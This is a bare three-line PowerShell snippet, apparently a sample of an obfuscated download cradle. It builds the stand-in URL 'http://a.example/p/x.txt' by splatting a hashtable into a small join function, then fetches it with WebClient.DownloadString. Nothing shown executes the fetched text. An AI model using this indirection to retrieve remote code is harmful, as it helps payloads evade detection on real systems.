function j($a,$b){$a+$b}; $h=@{a='http://a.example';b='/p/x.txt'}; $r = j @h
$wc = New-Object System.Net.WebClient
$wc.DownloadString($r)
